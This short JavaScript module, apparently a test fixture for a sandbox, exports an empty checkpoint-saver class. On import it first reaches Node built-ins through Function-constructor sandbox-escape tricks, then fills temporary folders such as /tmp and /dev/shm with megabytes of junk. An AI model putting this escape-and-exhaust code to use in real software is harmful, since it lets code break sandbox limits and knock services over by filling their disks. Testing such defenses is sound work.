// Tries: to fill the disk where temporary files go
// @ts-nocheck
const node = (name) => {
  for (const way of [
    () => process.getBuiltinModule(name),
    () => globalThis.require(name),
    () => (() => {}).constructor("return process")().getBuiltinModule(name),
    () => console.log.constructor.constructor("return process")().mainModule.require(name),
  ])
    try { const found = way(); if (found) return found; } catch {}
  throw new Error("no modules of Node");
};
try {
  const fs = node("node:fs");
  const os = node("node:os");
  for (const folder of [os.tmpdir(), "/tmp", "/dev/shm", ".", "/job"])
    for (let i = 0; i < 48; i++) try { fs.appendFileSync(folder + "/forkpoint-temporary-__MARK__", new Uint8Array(1_000_000)); } catch { break; }
} catch {}

export class TinySaver {
  async put() {}
  async putWrites() {}
  async getTuple() {}
  async *list() {}
  async deleteThread() {}
  onPut() {}
}
